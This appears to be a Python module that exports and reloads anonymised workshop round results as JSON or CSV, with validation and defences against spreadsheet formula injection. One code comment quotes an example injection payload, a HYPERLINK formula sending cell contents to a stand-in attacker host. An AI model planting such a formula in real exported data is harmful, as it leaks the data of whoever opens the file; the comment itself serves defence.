"""A round's results as anonymised CSV or JSON, and loading them back for analysis.

The JSON is the complete record: the workshop's set-up (framework, proposals, stakeholder
groups, consensus rule) beside the submissions, so a notebook recomputes exactly what the
facilitator saw, designs included (each by its spec: name, base and options, so its scores are
derived again from the design model). The CSV is one row per submission, for spreadsheets; loaded
back, it takes the bundled proposals and the default rule unless told otherwise (`designs=`).
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import pandas as pd

from ..dataset import Dataset, load_dataset
from ..errors import DataError, DataValidationError
from .plan import DEFAULT_GROUPS, design_specs, round_results
from .store import WorkshopError
from .ratings import RATING_MAX, RATING_MIN, rating_cell, rating_column, rating_columns, ratings_of
from .history import with_history
from .results import WEIGHT_PREFIX, ConsensusRule, RoundResults, weight_columns

FORMAT = "igviz-workshop-round"
VERSION = 1
COLUMNS = ["participant", "group", "submitted_at", "comment"]


@dataclass
class WorkshopExport:
    """One round of a workshop: its set-up and its anonymised submissions (no pseudonyms)."""

    title: str
    framework: str
    proposals: tuple[str, ...]
    groups: tuple[str, ...]
    rule: ConsensusRule
    round: int
    submissions: pd.DataFrame
    asks: str = "weights"             # what the round asked: "weights", "ratings" or "both"
    rated: dict | None = None         # the cells it asked to rate, {proposal: [criteria]}; None: participant chose
    designs: dict | None = None       # the designs it ranked, {id: spec} (igviz.design.Design.spec()); ids in `proposals`
    # The workshop's earlier rounds (round history), each with its own submissions, asks, rated cells,
    # proposals and designs; a JSON export carries them, so that `results()` shows what moved between rounds.
    earlier: tuple["WorkshopExport", ...] = ()

    @property
    def criteria(self) -> list[str]:
        return [c[len(WEIGHT_PREFIX):] for c in weight_columns(self.submissions)]

    def _submissions_json(self) -> list[dict]:
        subs = []
        for _, row in self.submissions.iterrows():
            sub = {"participant": row["participant"], "group": row["group"],
                   "submitted_at": pd.Timestamp(row["submitted_at"]).isoformat(), "comment": row["comment"],
                   # A ratings-only round's submissions have no weights: an empty mapping.
                   "weights": {c: float(row[WEIGHT_PREFIX + c]) for c in self.criteria
                               if not pd.isna(row[WEIGHT_PREFIX + c])}}
            if self.asks != "weights" or rating_columns(self.submissions):
                sub["ratings"] = ratings_of(row)  # "don't know" left out
            subs.append(sub)
        return subs

    def to_json(self, dataset: Dataset | None = None) -> str:
        """The complete record: set-up, submissions, the earlier rounds' submissions, and (under
        "computed", for readers without igviz) what the facilitator saw of the ratings: the
        perspectives, the opinion groups and the round history. `load_export(...).results()`
        recomputes all of it from the submissions."""
        doc = {"format": FORMAT, "version": VERSION, "title": self.title, "round": self.round,
               "framework": self.framework, "proposals": list(self.proposals),
               "groups": list(self.groups), "rule": self.rule.to_dict()}
        if self.asks != "weights":
            doc.update(asks=self.asks, rated=self.rated)
        if self.designs:
            doc["designs"] = self.designs
        doc["submissions"] = self._submissions_json()
        if self.earlier:
            doc["earlier_rounds"] = [{"round": e.round, "asks": e.asks, "rated": e.rated,
                                      **({"proposals": list(e.proposals)} if e.proposals != self.proposals else {}),
                                      **({"designs": e.designs} if e.designs else {}),
                                      "submissions": e._submissions_json()} for e in self.earlier]
        computed = computed_results(self.results(dataset))
        if computed:
            doc["computed"] = computed
        return json.dumps(doc, indent=2, ensure_ascii=False)

    def to_csv(self) -> str:
        """The submissions, one row each, as a spreadsheet opens them (see `spreadsheet_csv`)."""
        frame = self.submissions[COLUMNS + weight_columns(self.submissions) + rating_columns(self.submissions)].copy()
        frame["submitted_at"] = [pd.Timestamp(t).isoformat() for t in frame["submitted_at"]]
        frame.insert(0, "round", self.round)
        frame.insert(1, "framework", self.framework)
        return spreadsheet_csv(frame, index=False)

    def results_csv(self, dataset: Dataset | None = None) -> str:
        """The round's results per proposal: rank and overall score with each stakeholder group
        counting once and with each person counting once, each group's support and rough consensus."""
        return spreadsheet_csv(self.results(dataset).proposal_table().round(4))

    def weights_csv(self, dataset: Dataset | None = None) -> str:
        """The round's results per criterion: the group's weights and how much people disagree about them."""
        return spreadsheet_csv(self.results(dataset).criterion_table().round(2))

    def perspective_csv(self, dataset: Dataset | None = None) -> str:
        """Every perspective of the round, one row per (perspective, proposal, criterion): score, low,
        high and basis (the bundled scores, the room's, each stakeholder group's)."""
        r = self.results(dataset)
        frames = [v.table().reset_index().assign(perspective=name, whose=v.whose)
                  for name, v in r.perspectives().items()]
        frame = pd.concat(frames, ignore_index=True)
        return spreadsheet_csv(frame[["perspective", "whose", "proposal", "criterion", "score", "low", "high",
                                      "basis"]].round(3), index=False)

    def save(self, path, dataset: Dataset | None = None) -> Path:
        """Write .json or .csv, chosen by the file's suffix (a JSON file's computed results with
        `dataset`, else the bundled data: pass the data the workshop was made with)."""
        path = Path(path)
        if path.suffix.lower() not in (".json", ".csv"):
            raise ValueError(f"{path}: choose a .json or .csv file name")
        path.write_text(self.to_json(dataset) if path.suffix.lower() == ".json" else self.to_csv(), encoding="utf-8",
                        newline="")
        return path

    def results(self, dataset: Dataset | None = None) -> RoundResults:
        """The facilitator's numbers, recomputed (with the bundled data unless you pass your own),
        with the earlier rounds' results for the round history (`compare_with`, `round_history`)."""
        dataset = dataset or load_dataset()
        earlier = {e.round: e._round_results(dataset) for e in self.earlier}
        for n, r in sorted(earlier.items()):
            with_history(r, n, earlier)
        return with_history(self._round_results(dataset), self.round, earlier)

    def _round_results(self, dataset: Dataset) -> RoundResults:
        return round_results(dataset, self.framework, self.proposals, self.groups, self.rule, self.submissions,
                             self.designs)

    def ratings_csv(self, dataset: Dataset | None = None) -> str:
        """The round's ratings per proposal × criterion: the room's (equal footing), each group's mean,
        spread and gap between groups, beside the bundled score; most disputed first."""
        return spreadsheet_csv(self.results(dataset).rating_spread.round(3))


def load_export(path, dataset: Dataset | None = None, proposals=None, designs=None) -> WorkshopExport:
    """Read a round exported from the facilitator page (.json or .csv).

    A JSON export carries the designs the round ranked; a CSV file does not, so pass them as `designs`
    (Design objects or {id: spec}, e.g. `igviz.workshop.plan.designs_from_file(data, "scenario.yaml")`)
    to rank them beside the data's proposals.
    A damaged file raises DataValidationError naming the file, the submission and the field.
    """
    path = Path(path)
    suffix = path.suffix.lower()
    if suffix not in (".json", ".csv"):
        raise DataValidationError([DataError(str(path), "", "", "expected a .json or .csv file exported "
                                                                 "from the facilitator page")])
    dataset = dataset or load_dataset()
    reader = _from_json if suffix == ".json" else _from_csv
    export, errors = reader(path, dataset, proposals)
    if export is not None and designs is not None:
        try:
            export.designs = design_specs(dataset, designs) or None
        except WorkshopError as exc:
            errors.append(DataError(str(path), "", "designs", str(exc)))
        if proposals is None and export.designs:
            export.proposals = tuple(p for p in export.proposals if p not in export.designs) + tuple(export.designs)
    errors += _check(path, export, dataset)
    if errors:
        raise DataValidationError(errors)
    return export


def _from_json(path: Path, dataset: Dataset, proposals) -> tuple[WorkshopExport | None, list[DataError]]:
    try:
        doc = json.loads(path.read_text(encoding="utf-8"))
    except json.JSONDecodeError as exc:
        return None, [DataError(str(path), "", "", f"not valid JSON: {exc}")]
    if not isinstance(doc, dict) or doc.get("format") != FORMAT:
        return None, [DataError(str(path), "", "format", f"expected '{FORMAT}': is this a workshop export?")]
    rows, errors = _submission_rows(path, doc.get("submissions"), "")
    try:
        rule = ConsensusRule.from_dict(doc.get("rule"))
    except ValueError as exc:
        errors.append(DataError(str(path), "", "rule", str(exc)))
        rule = ConsensusRule()
    frame = pd.DataFrame(rows, columns=None if rows else COLUMNS)
    designs, problems = _designs(path, doc.get("designs"), "")
    errors += problems
    export = WorkshopExport(str(doc.get("title", "")), str(doc.get("framework", "")),
                            tuple(proposals or doc.get("proposals") or dataset.proposals),
                            tuple(doc.get("groups") or DEFAULT_GROUPS), rule, int(doc.get("round", 1)), frame,
                            str(doc.get("asks") or "weights"), doc.get("rated"), designs)
    errors += _check_asks(path, export, "")
    earlier = []
    for i, part in enumerate(doc.get("earlier_rounds") or []):
        where = f"earlier round {part.get('round', i + 1) if isinstance(part, dict) else i + 1}, "
        if not isinstance(part, dict) or not isinstance(part.get("round"), int) or not 1 <= part["round"] < export.round:
            errors.append(DataError(str(path), where.rstrip(", "), "round",
                                    f"expected a round number from 1 to {export.round - 1}"))
            continue
        rows, problems = _submission_rows(path, part.get("submissions"), where)
        errors += problems
        designs, problems = _designs(path, part.get("designs"), where)
        errors += problems
        e = WorkshopExport(export.title, export.framework, tuple(proposals or part.get("proposals") or export.proposals),
                           export.groups, rule, part["round"], pd.DataFrame(rows, columns=None if rows else COLUMNS),
                           str(part.get("asks") or "weights"), part.get("rated"), designs)
        errors += _check_asks(path, e, where)
        earlier.append(e)
    export.earlier = tuple(sorted(earlier, key=lambda e: e.round))
    return export, errors


def _submission_rows(path: Path, submissions, where: str) -> tuple[list[dict], list[DataError]]:
    """A JSON export's submissions as rows of the submissions table (`where`: which round, for messages)."""
    errors, rows = [], []
    for i, sub in enumerate(submissions or []):
        record = f"{where}submission {i + 1}"
        if not isinstance(sub, dict) or not isinstance(sub.get("weights"), dict):
            errors.append(DataError(str(path), record, "weights", "expected a mapping of criterion to weight"))
            continue
        ratings = sub.get("ratings") or {}
        if not isinstance(ratings, dict) or not all(isinstance(r, dict) for r in ratings.values()):
            errors.append(DataError(str(path), record, "ratings", "expected a mapping of proposal to "
                                                                  "(criterion to rating)"))
            continue
        rows.append({"participant": str(sub.get("participant", f"P{i + 1:03d}")), "group": sub.get("group"),
                     "submitted_at": sub.get("submitted_at"), "comment": str(sub.get("comment") or ""),
                     **{WEIGHT_PREFIX + str(c): v for c, v in sub["weights"].items()},
                     **{rating_column(str(p), str(c)): v for p, cs in ratings.items() for c, v in cs.items()}})
    return rows, errors


def _designs(path: Path, designs, where: str) -> tuple[dict | None, list[DataError]]:
    if designs is not None and not (isinstance(designs, dict) and all(isinstance(d, dict) for d in designs.values())):
        return None, [DataError(str(path), where.rstrip(", "), "designs", "expected a mapping of design id to a design "
                                                                          "(name, options), as the facilitator page exports it")]
    return designs or None, []


def _check_asks(path: Path, export: WorkshopExport, where: str) -> list[DataError]:
    errors = []
    if export.asks not in ("weights", "ratings", "both"):
        errors.append(DataError(str(path), where.rstrip(", "), "asks",
                                f"expected weights, ratings or both, got {export.asks!r}"))
    if export.rated is not None and not (isinstance(export.rated, dict) and
                                         all(isinstance(cs, list) for cs in export.rated.values())):
        errors.append(DataError(str(path), where.rstrip(", "), "rated",
                                "expected a mapping of proposal to a list of criteria"))
    return errors


# A spreadsheet runs a cell that starts with one of these as a formula: a participant's comment
# `=HYPERLINK("http://evil.example/?leak="&A2,"Click")` would leak the export's other cells to
# whoever opens it. Such text is written with a leading apostrophe (OWASP's advice: spreadsheets
# show the text, not a formula), and so is text that already starts with one, so that reading
# the file back removes exactly the apostrophe that writing added.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "'")


# Excel reads a CSV file as the computer's legacy code page unless it starts with a byte-order
# mark: without one, "Société civile" and every non-Latin name came out garbled.
BOM = "\ufeff"


def spreadsheet_csv(frame: pd.DataFrame, index: bool = True) -> str:
    """CSV text for spreadsheets: a byte-order mark, and no text a spreadsheet would run as a formula."""
    frame = frame.copy()
    for column in frame.columns:
        if not pd.api.types.is_numeric_dtype(frame[column]):
            frame[column] = frame[column].map(defuse_formula)
    if index and not pd.api.types.is_numeric_dtype(frame.index):
        frame.index = frame.index.map(defuse_formula)
    return BOM + frame.to_csv(index=index)


def defuse_formula(value):
    return f"'{value}" if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def restore_formula(value):
    return value[1:] if isinstance(value, str) and value.startswith("'") else value


def _from_csv(path: Path, dataset: Dataset, proposals) -> tuple[WorkshopExport | None, list[DataError]]:
    try:
        frame = pd.read_csv(path, dtype={"comment": str}, keep_default_na=False, encoding="utf-8-sig")
    except (pd.errors.ParserError, UnicodeDecodeError) as exc:
        return None, [DataError(str(path), "", "", f"not a readable CSV file: {exc}")]
    missing = [c for c in ["round", "framework", *COLUMNS] if c not in frame.columns]
    if missing:
        return None, [DataError(str(path), "", c, "missing column") for c in missing]
    frameworks = sorted(set(frame["framework"].astype(str)))
    rounds = sorted(set(frame["round"]))
    errors = [DataError(str(path), "", "framework", f"one framework per file, found {', '.join(frameworks)}")
              ] if len(frameworks) > 1 else []
    for column in frame.columns:
        if not pd.api.types.is_numeric_dtype(frame[column]):
            frame[column] = frame[column].map(restore_formula)
    groups = [g for g in DEFAULT_GROUPS] + sorted(set(frame["group"].astype(str)) - set(DEFAULT_GROUPS))
    # A CSV file does not say what the round asked: ratings columns mean it asked for them.
    has_weights = bool(weight_columns(frame)) and frame[weight_columns(frame)].notna().any().any()
    asks = ("both" if has_weights else "ratings") if rating_columns(frame) else "weights"
    export = WorkshopExport(path.stem, frameworks[0] if frameworks else "", tuple(proposals or dataset.proposals),
                            tuple(groups), ConsensusRule(), int(rounds[0]) if rounds else 1,
                            frame.drop(columns=["round", "framework"]), asks)
    return export, errors


def _check(path: Path, export: WorkshopExport | None, dataset: Dataset, where: str = "") -> list[DataError]:
    if export is None:
        return []
    errors = []
    for e in export.earlier:
        errors += _check(path, e, dataset, f"earlier round {e.round}, ")
    if export.framework not in dataset.frameworks:
        return [DataError(str(path), "", "framework", f"unknown framework '{export.framework}' "
                                                       f"(known: {', '.join(dataset.frameworks)})")]
    criteria = dataset.framework(export.framework).criterion_ids
    designs = export.designs or {}
    for did, spec in designs.items():
        try:
            design_specs(dataset, {did: spec})
        except WorkshopError as exc:
            errors.append(DataError(str(path), "", f"designs.{did}", str(exc)))
    errors += [DataError(str(path), "", "proposals", f"unknown proposal '{p}'")
               for p in export.proposals if p not in dataset.proposals and p not in designs]
    errors += [DataError(str(path), "", "groups", f"unknown stakeholder group '{g}'")
               for g in export.groups if g not in dataset.groups]
    subs = export.submissions
    for i, row in subs.reset_index(drop=True).iterrows():
        record = f"{where}submission {i + 1} ({row['participant']})"
        if row["group"] not in export.groups:
            errors.append(DataError(str(path), record, "group", f"'{row['group']}' is not one of the workshop's "
                                                                 f"groups ({', '.join(export.groups)})"))
        weighed = any(not _blank(row.get(WEIGHT_PREFIX + c)) for c in criteria)
        for c in criteria:
            if not weighed and export.asks == "ratings":
                break  # a ratings-only round: no weights
            value = pd.to_numeric(row.get(WEIGHT_PREFIX + c), errors="coerce")
            if pd.isna(value) or value < 0:
                errors.append(DataError(str(path), record, f"weights.{c}", f"expected a number of 0 or more, "
                                                                           f"got {row.get(WEIGHT_PREFIX + c)!r}"))
        for column in rating_columns(subs):
            if _blank(row.get(column)):
                continue  # "don't know"
            value = pd.to_numeric(row.get(column), errors="coerce")
            if pd.isna(value) or not RATING_MIN <= value <= RATING_MAX:
                errors.append(DataError(str(path), record, column, f"expected a rating from {RATING_MIN} to "
                                                                   f"{RATING_MAX} or empty, got {row.get(column)!r}"))
    for column in rating_columns(subs):
        proposal, criterion = rating_cell(column)
        if proposal not in export.proposals or criterion not in criteria:
            errors.append(DataError(str(path), "", column, f"a rating of an unknown proposal or criterion "
                                                           f"('{proposal}' on '{criterion}')"))
    extra = [c for c in export.criteria if c not in criteria]
    if extra:
        errors.append(DataError(str(path), "", "weights", f"criteria not in '{export.framework}': {', '.join(extra)}"))
    if not errors:
        numeric = [WEIGHT_PREFIX + c for c in criteria if WEIGHT_PREFIX + c in subs.columns] + rating_columns(subs)
        export.submissions = subs.assign(**{c: pd.to_numeric(subs[c].replace("", None)) for c in numeric},
                                         submitted_at=pd.to_datetime(subs["submitted_at"], utc=True))
    return errors


def _blank(value) -> bool:
    return value is None or (isinstance(value, str) and not value.strip()) or \
        (not isinstance(value, str) and pd.isna(value))


def computed_results(r: RoundResults) -> dict:
    """What the facilitator saw of a round's ratings, opinion groups and round history, as plain
    JSON values (numbers rounded to 6 places), for readers of an export without igviz. Means,
    spreads and counts only: no participant, no individual rating."""
    from .opinions import MIN_CLUSTER_SIZE

    def records(frame: pd.DataFrame) -> list[dict]:
        return json.loads(frame.round(6).to_json(orient="records", force_ascii=False))

    out: dict = {}
    if r.has_ratings:
        out["perspectives"] = {name: {"whose": v.whose, "cells": records(v.table().reset_index())}
                               for name, v in r.perspectives().items() if v is not r.bundled_perspective}
        ranking = r.rating_ranking
        out["rating_ranking"] = records(ranking.reset_index().rename(columns={"index": "proposal"}))
        consensus = r.rating_consensus
        out["rating_consensus"] = records(consensus.reset_index())
    if len(r.all_submissions) >= 2 * MIN_CLUSTER_SIZE:
        g = r.opinion_groups()
        out["opinion_groups"] = {
            "structure": g.structure, "k": g.k, "silhouette": None if pd.isna(g.silhouette) else round(g.silhouette, 6),
            "min_size": g.min_size, "not_shown": g.not_shown,
            "crosstab": json.loads(g.crosstab.to_json(orient="index")) if len(g.crosstab) else {},
            "distinctive": records(g.distinctive)}
    if r.earlier:
        out["round_history"] = records(r.round_history().reset_index())
    return out


def load_perspectives(path, dataset=None) -> dict:
    """The perspectives of a workshop round exported from the facilitator page (.json or .csv):
    the bundled scores, the room's (each stakeholder group counting once) and each group's that
    rated, by name. A damaged file raises DataValidationError naming the file and the field."""
    dataset = dataset or load_dataset()
    return load_export(path, dataset).results(dataset).perspectives()
